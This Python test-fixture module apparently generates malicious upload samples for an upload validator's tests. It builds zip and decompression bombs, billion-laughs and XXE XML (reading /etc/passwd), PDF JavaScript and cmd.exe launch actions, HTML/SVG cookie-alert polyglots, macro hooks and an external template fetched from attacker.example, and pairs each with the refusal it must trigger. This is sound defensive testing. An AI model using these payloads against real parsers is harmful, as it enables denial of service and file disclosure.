"""A corpus of hostile uploads, generated, never stored as binary fixtures (issue 21 §1).

Every case of issue 21's "What was seen" 1-5 and more. Big files are made cheaply: a deflate
stream of N megabytes of zeros is one compressed megabyte repeated (after a full flush the
compressor starts afresh, so each megabyte compresses to the same bytes); a 20,000-page PDF
repeats one tiny page object. Each case is made only when asked for, and cached.

`CASES` maps a case's name to (file name, maker, the message expected, the words it must name).
"""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from docx import Document

from ecm.core.uploads import refusals as r

MB = 1024 * 1024

# --- building blocks --------------------------------------------------------------------------


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects (1 is the catalog), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def pdf_page(*, catalog_extra: bytes = b"", page_extra: bytes = b"", more=()) -> bytes:
    """A one-page PDF saying 'Evidence', with extra keys on its catalog or page."""
    text = b"BT /F1 12 Tf 72 720 Td (Evidence) Tj ET"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> %s>>" % page_extra,
            stream(text),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def zeros_deflated(megabytes: int, *, raw: bool) -> bytes:
    """`megabytes` MB of zeros, deflated, made from one compressed megabyte repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    first = packer.compress(bytes(MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush(zlib.Z_FINISH)
    if raw:
        return first + again * (megabytes - 1) + end
    # zlib's trailer is Adler-32: for n zero bytes, A = 1 and B = n mod 65521.
    adler = ((megabytes * MB % 65521) << 16) | 1
    return first + again * (megabytes - 1) + end[:-4] + struct.pack(">L", adler)


@dataclass
class Entry:
    """A ZIP entry written by hand, so its headers can lie."""

    name: str
    data: bytes = b""  # as stored (already deflated when method is 8)
    method: int = 0
    size: int | None = None  # the unpacked size the headers declare (default: the truth)
    crc: int | None = None
    local_size: int | None = None  # what the local header alone declares


def zip_by_hand(entries: list[Entry], *, count: int | None = None) -> bytes:
    local, central = [], []
    offset = 0
    for e in entries:
        name = e.name.encode()
        size = len(e.data) if e.size is None else e.size
        crc = zlib.crc32(e.data) if e.crc is None and e.method == 0 else (e.crc or 0)
        local_size = size if e.local_size is None else e.local_size
        header = struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            e.method,
            0,
            0,
            crc,
            len(e.data),
            local_size,
            len(name),
            0,
        )
        local.append(header + name + e.data)
        central.append(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                e.method,
                0,
                0,
                crc,
                len(e.data),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
        offset += len(local[-1])
    directory = b"".join(central)
    total = min(len(entries) if count is None else count, 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(directory), offset, 0)
    return b"".join(local) + directory + end


def zip_entries(entries: dict[str, bytes | str]) -> bytes:
    """An honest package; the first entry stored (ODF's mimetype), the rest deflated."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for n, (name, content) in enumerate(entries.items()):
            package.writestr(name, content, zipfile.ZIP_STORED if n == 0 else zipfile.ZIP_DEFLATED)
    return out.getvalue()


ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODT_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2">'
)
ODT_BODY = "<office:body><office:text>{}</office:text></office:body></office:document-content>"
MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT_MIMETYPE}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "{}</manifest:manifest>"
)


def odt(body: str = "<text:p>Evidence</text:p>", *, head: str = "", manifest: str = "", **more):
    return zip_entries(
        {
            "mimetype": ODT_MIMETYPE,
            "content.xml": head + ODT_HEAD + ODT_BODY.format(body),
            "META-INF/manifest.xml": MANIFEST.format(manifest),
            **more,
        }
    )


@functools.cache
def docx_parts() -> dict[str, bytes]:
    """The entries of a plain Word document, as python-docx saves it."""
    document = Document()
    document.add_paragraph("Evidence")
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


def with_part(name: str, content: bytes | str) -> bytes:
    """A plain Word document with one entry added or replaced."""
    parts = dict(docx_parts()) | {name: content}
    return zip_entries(parts)


# --- the cases --------------------------------------------------------------------------------

SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
XXE_DOCUMENT = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)


def _pdf_inflating_to_1_gb() -> bytes:
    return pdf_page(more=[stream(zeros_deflated(1024, raw=False), b"/Filter /FlateDecode ")])


def _pdf_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        ]
        + [page] * count
    )


def _pdf_pages_count_lies() -> bytes:
    """20,000 pages whose page tree says 1."""
    return _pdf_pages(20_000).replace(b"/Count 20000", b"/Count 00001")  # same length


def _docx_false_sizes() -> bytes:
    """document.xml's headers say 100 bytes; it inflates to its real size."""
    parts = docx_parts()
    entries = [Entry(n, d) for n, d in parts.items() if n != "word/document.xml"]
    body = parts["word/document.xml"]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    entries.append(
        Entry(
            "word/document.xml",
            packer.compress(body) + packer.flush(),
            method=8,
            size=100,
            crc=zlib.crc32(body[:100]),
        )
    )
    return zip_by_hand(entries)


def _docx_local_header_lies() -> bytes:
    parts = docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries[-1].local_size = 10
    return zip_by_hand(entries)


def _docx_bomb() -> bytes:
    """1 GB of zeros as word/document.xml, its size declared honestly (the CRC is not made: it
    would take reading the gigabyte, and the declared size is refused first)."""
    parts = docx_parts()
    entries = [Entry(n, d) for n, d in parts.items() if n != "word/document.xml"]
    entries.append(
        Entry("word/document.xml", zeros_deflated(1024, raw=True), method=8, size=1024 * MB, crc=1)
    )
    return zip_by_hand(entries)


def _docx_of_540_000_elements() -> bytes:
    """180,000 one-word paragraphs (three elements each): some 70 KB, past the element cap."""
    head = docx_parts()["word/document.xml"].split(b"<w:body>")[0]
    paragraphs = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 180_000
    return with_part(
        "word/document.xml", head + b"<w:body>" + paragraphs + b"</w:body></w:document>"
    )


def _zip_of_100_000_entries() -> bytes:
    return zip_by_hand([Entry(f"{i:x}") for i in range(100_000)])


def _pdf_truncated() -> bytes:
    whole = pdf_page()
    return whole[: len(whole) // 2]


def _odt_macro_on_open() -> bytes:
    """A Basic macro bound to the document's opening, in content.xml's own events."""
    events = (
        "<office:scripts><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"/>'
        "</office:event-listeners></office:scripts>"
    )
    body = ODT_BODY.format("<text:p>Evidence</text:p>")
    return zip_entries({"mimetype": ODT_MIMETYPE, "content.xml": ODT_HEAD + events + body})


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>"


@dataclass(frozen=True)
class Case:
    file_name: str
    make: Callable[[], bytes]
    message: str  # the refusal's template: the message shown starts with its first words
    names: str = ""  # words the message must contain: what was found


CASES: dict[str, Case] = {
    # What was seen 1-2
    "odt_billion_spaces": Case(
        "plan.odt",
        lambda: odt('<text:p>a<text:s text:c="1000000000"/>b</text:p>'),
        r.DOCUMENT_TOO_MANY_SPACES,
        'text:c="1000000000"',
    ),
    "pdf_inflating_to_1_gb": Case("plan.pdf", _pdf_inflating_to_1_gb, r.DOCUMENT_TOO_BIG_UNPACKED),
    "odt_5000_nested_spans": Case(
        "plan.odt",
        lambda: odt(
            "<text:p>" + "<text:span>" * 5000 + "deep" + "</text:span>" * 5000 + "</text:p>"
        ),
        r.DOCUMENT_TOO_DEEP,
        "content.xml",
    ),
    # 3
    "pdf_20000_pages": Case(
        "plan.pdf", lambda: _pdf_pages(20_000), r.DOCUMENT_TOO_MANY_PAGES, "2,000"
    ),
    "pdf_20000_pages_count_lies": Case(
        "plan.pdf", _pdf_pages_count_lies, r.DOCUMENT_TOO_MANY_PAGES, "2,000"
    ),
    # 4
    "pdf_javascript_open_action": Case(
        "plan.pdf",
        lambda: pdf_page(catalog_extra=b"/OpenAction 6 0 R ", more=[JS_ACTION]),
        r.DOCUMENT_ACTIVE,
        "/OpenAction /JavaScript",
    ),
    "pdf_javascript_on_page_open": Case(
        "plan.pdf",
        lambda: pdf_page(page_extra=b"/AA << /O 6 0 R >> ", more=[JS_ACTION]),
        r.DOCUMENT_ACTIVE,
        "/AA /JavaScript",
    ),
    "pdf_javascript_name_tree": Case(
        "plan.pdf",
        lambda: pdf_page(
            catalog_extra=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ", more=[JS_ACTION]
        ),
        r.DOCUMENT_ACTIVE,
        "JavaScript",
    ),
    "pdf_launch": Case(
        "plan.pdf",
        lambda: pdf_page(
            catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ",
        ),
        r.DOCUMENT_ACTIVE,
        "/Launch",
    ),
    "pdf_hex_escaped_javascript": Case(
        "plan.pdf",
        lambda: pdf_page(more=[b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"]),
        r.DOCUMENT_ACTIVE,
        "JavaScript",
    ),
    "pdf_javascript_outside_the_xref": Case(
        "plan.pdf",
        # An object after the end that no cross-reference lists: pypdf never reaches it.
        lambda: pdf_page() + b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n",
        r.DOCUMENT_ACTIVE,
        "/JavaScript",
    ),
    "pdf_embedded_file": Case(
        "plan.pdf",
        lambda: pdf_page(
            catalog_extra=b"/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> ",
            more=[
                b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
                stream(b"MZ", b"/Type /EmbeddedFile "),
            ],
        ),
        r.DOCUMENT_ACTIVE,
        "/EmbeddedFile",
    ),
    "pdf_xfa_form": Case(
        "plan.pdf",
        lambda: pdf_page(
            catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", more=[stream(b"<xdp/>")]
        ),
        r.DOCUMENT_ACTIVE,
        "/XFA",
    ),
    "pdf_html_polyglot": Case(
        "plan.pdf",
        lambda: pdf_page().replace(
            b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(document.cookie)</script>\n", 1
        ),
        r.DOCUMENT_WEB_PAGE,
        "<html",
    ),
    "html_then_pdf": Case(
        "plan.pdf",
        lambda: b"<!DOCTYPE html><html><body>hi</body></html>\n" + pdf_page(),
        r.DOCUMENT_WEB_PAGE,
        "<!doctype html",
    ),
    "pdf_not_at_start": Case(
        "plan.pdf", lambda: b"\x00" * 100 + pdf_page(), r.DOCUMENT_NOT_AT_START, "100 bytes"
    ),
    "svg_renamed_pdf": Case(
        "plan.pdf",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        r.DOCUMENT_WEB_PAGE,
        "<svg",
    ),
    "odt_basic_macros": Case(
        "plan.odt",
        lambda: odt(**{"Basic/Standard/Module1.xml": "<module/>"}),
        r.DOCUMENT_MACRO,
        "Basic/Standard/Module1.xml",
    ),
    "odt_script_in_manifest": Case(
        "plan.odt",
        lambda: odt(
            manifest='<manifest:file-entry manifest:full-path="x.js" '
            'manifest:media-type="application/javascript"/>'
        ),
        r.DOCUMENT_MACRO,
        "x.js",
    ),
    "odt_macro_on_open": Case(
        "plan.odt", lambda: _odt_macro_on_open(), r.DOCUMENT_MACRO, "event-listener"
    ),
    "docx_vba_project_normal_content_type": Case(
        "plan.docx",
        lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100)),
        r.DOCUMENT_MACRO,
        "word/vbaProject.bin",
    ),
    "docx_vba_data": Case(
        "plan.docx", lambda: with_part("word/vbaData.xml", "<a/>"), r.DOCUMENT_MACRO, "vbaData.xml"
    ),
    "docx_activex": Case(
        "plan.docx",
        lambda: with_part("word/activeX/activeX1.xml", "<a/>"),
        r.DOCUMENT_ACTIVE,
        "word/activeX/activeX1.xml",
    ),
    "docx_ole_object": Case(
        "plan.docx",
        lambda: with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        r.DOCUMENT_ACTIVE,
        "oleObject1.bin",
    ),
    "docx_external_template": Case(
        "plan.docx",
        lambda: with_part("word/_rels/settings.xml.rels", SETTINGS_RELS),
        r.DOCUMENT_EXTERNAL,
        "attachedTemplate",
    ),
    "docx_false_zip_sizes": Case(
        "plan.docx", _docx_false_sizes, r.DOCUMENT_FALSE_SIZES, "word/document.xml"
    ),
    "docx_local_header_lies": Case("plan.docx", _docx_local_header_lies, r.DOCUMENT_FALSE_SIZES),
    # 5: a name that is not a document's
    "htaccess": Case(".htaccess", lambda: b"AddHandler cgi-script .pdf\n", r.DOCUMENT_WRONG_TYPE),
    # and more
    "docx_zip_bomb_1_gb": Case("plan.docx", _docx_bomb, r.DOCUMENT_TOO_BIG_UNPACKED),
    "odt_billion_laughs": Case(
        "plan.odt",
        lambda: zip_entries(
            {
                "mimetype": ODT_MIMETYPE,
                "content.xml": BILLION_LAUGHS
                + ODT_HEAD
                + ODT_BODY.format("<text:p>&lol9;</text:p>"),
            }
        ),
        r.DOCUMENT_XML_ENTITIES,
        "content.xml",
    ),
    "docx_xxe": Case(
        "plan.docx",
        lambda: with_part("word/document.xml", XXE_DOCUMENT),
        r.DOCUMENT_XML_ENTITIES,
        "word/document.xml",
    ),
    "docx_of_540_000_elements": Case(
        "plan.docx", _docx_of_540_000_elements, r.DOCUMENT_TOO_BIG_UNPACKED
    ),
    "zip_of_100_000_entries": Case(
        "plan.docx", _zip_of_100_000_entries, r.DOCUMENT_TOO_MANY_PARTS, "2,000"
    ),
    "pdf_truncated": Case("plan.pdf", _pdf_truncated, r.DOCUMENT_INCOMPLETE),
    "empty": Case("plan.pdf", lambda: b"", r.DOCUMENT_EMPTY),
    "png_renamed_pdf": Case("plan.pdf", lambda: PNG, r.DOCUMENT_IS_OTHER, "PNG picture"),
    "windows_program_renamed_pdf": Case(
        "plan.pdf", lambda: b"MZ\x90\x00" + bytes(200), r.DOCUMENT_IS_OTHER, "Windows program"
    ),
    "zip_bzip2_entry": Case(
        "plan.docx",
        lambda: zip_by_hand([Entry("[Content_Types].xml", b"BZh9", method=12, size=10**9)]),
        r.DOCUMENT_TOO_BIG_UNPACKED,
    ),
}


@functools.cache
def make(name: str) -> bytes:
    """The bytes of one case, made once per process."""
    return CASES[name].make()


def expected_start(case: Case) -> str:
    """The start of the message the case must get (up to its first placeholder)."""
    return case.message.split("{")[0]
